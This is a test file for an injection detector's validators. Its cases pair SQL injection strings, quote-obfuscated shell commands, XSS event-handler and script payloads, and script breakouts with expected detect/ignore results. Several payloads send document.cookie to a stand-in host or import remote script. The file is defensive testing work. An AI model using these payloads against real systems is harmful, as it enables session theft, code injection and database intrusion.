import { describe, expect, it } from 'vitest';
import { validators } from '../../../src/engine/detect/validators.js';

const cases: readonly [validator: string, hit: string, accepted: boolean][] = [
  ['constant-comparison', '1" or "x"="x', true],
  ['constant-comparison', "or 'pear' like 'pear", true],
  ['constant-comparison', '1 and 7=9', true],
  ['constant-comparison', 'or ( 3 ) = ( 3', true],
  ['constant-comparison', 'or pear=pear --', true],
  ['constant-comparison', '" and "name" = "pear"', false],
  ['constant-comparison', 'or price = 7', false],
  ['constant-comparison', 'or price <> cost', false],
  ['constant-comparison', 'or pears', false],
  ['constant-comparison', '', false],
  ['hidden-command', "wh''oami", true],
  ['hidden-command', 'c$@at', true],
  ['hidden-command', 'pi``ng', true],
  ['hidden-command', '/bin/una$$me', true],
  ['hidden-command', 'WHO""AMI', true],
  ['hidden-command', 'whoami', false],
  ['hidden-command', "pea''rs", false],
  ['hidden-command', "''", false],
  ['hidden-command', 'bash``', false],
  ['hidden-command', 'ba``sh``', true],
  ['hidden-command', "i''d", true],
  ['hidden-command', "I''d", false],
  ['hidden-command', 'cat""', false],
  ['hidden-command', "ls'' ", false],
  ['hidden-command', 'c""at""', true],
  ['sql-breakout', "pear') or 7 in (7,2)", true],
  ['sql-breakout', '8) and (select 1)=1', true],
  ['sql-breakout', "' limit 3", true],
  ['sql-breakout', "6' and taller people see more", false],
  ['sql-breakout', 'ripe) and sweet', false],
  ['handler-payload', 'onerror=alert(7)', true],
  ['handler-payload', 'onclick="alert(document.domain)', true],
  ['handler-payload', 'onclick="confirm`pear`', true],
  ['handler-payload', 'onfocus=&#97;lert(7)', true],
  ['handler-payload', 'onload="al\\u0065rt(7)', true],
  ['handler-payload', "onwheel=top['ale'+'rt'](7)", true],
  ['handler-payload', "oncut='location=`//acme.dev/`+document.cookie", true],
  ['handler-payload', 'onbegin=pear=alert,pear(7)', true],
  ['handler-payload', 'onpointerrawupdate=7', true],
  ['handler-payload', "onload=import('//acme.dev/pear.js')", true],
  ['handler-payload', "onclick=\"alert('The pears are ripe')", false],
  ['handler-payload', "onsubmit=\"return confirm('Eat this pear?')", false],
  ['handler-payload', "onerror=\"this.src='/no-pear.png'", false],
  ['handler-payload', "onclick=\"window.location.href='/pears'", false],
  ['handler-payload', "onclick=\"alert(document.getElementById('pear').value)", false],
  ['handler-payload', 'onClick={() => alert(7)}', false],
  ['handler-payload', 'onAbort = () =', false],
  ['handler-payload', 'onPick = (pear: Pear): void =', false],
  ['handler-payload', 'onDrain = new Set();', false],
  ['handler-payload', 'ondrain=new Set()', true],
  ['handler-payload', 'onload="init()', false],
  ['handler-payload', 'onload', false],
  ['script-payload', '<script>alert(7)', true],
  ['script-payload', '<script defer>[7].find(alert)', true],
  ['script-payload', "<script>fetch('//acme.dev/?'+document.cookie)", true],
  ['script-payload', '%3Cscript%3Econfirm(origin)', true],
  ['script-payload', '<script>\\u{61}lert(7)', true],
  ['script-payload', "<script>alert('The pears are ripe')", false],
  ['script-payload', "<script>fetch('/pears').then(show)", false],
  ['script-payload', '<script>const pears = 7;', false],
  ['script-payload', '<script', false],
  ['script-breakout', "pear';", true],
  ['script-breakout', '4"-', true],
  ['script-breakout', "\\'-", true],
  ['script-breakout', '%27-', true],
  ['script-breakout', '*/', true],
  ['script-breakout', 'const fruit = "pear"; ', false],
  ['script-breakout', '/* pears */', false],
  ['script-breakout', 'pears;', false],
];

describe('validators of injections', () => {
  it.each(cases)('%s: %s', (name, hit, accepted) => {
    expect(validators.get(name)?.(hit)).toBe(accepted);
  });

  it.each([
    'constant-comparison',
    'hidden-command',
    'sql-breakout',
    'handler-payload',
    'script-payload',
    'script-breakout',
  ])('%s looks at a bounded part of a long hit', (name) => {
    const started = process.cpuUsage();
    validators.get(name)?.(`${'a ('.repeat(200_000)}=`);
    validators.get(name)?.(`onload=<script>${'a ('.repeat(200_000)}=`);
    const { user, system } = process.cpuUsage(started);
    expect(user + system).toBeLessThan(500_000);
  });
});
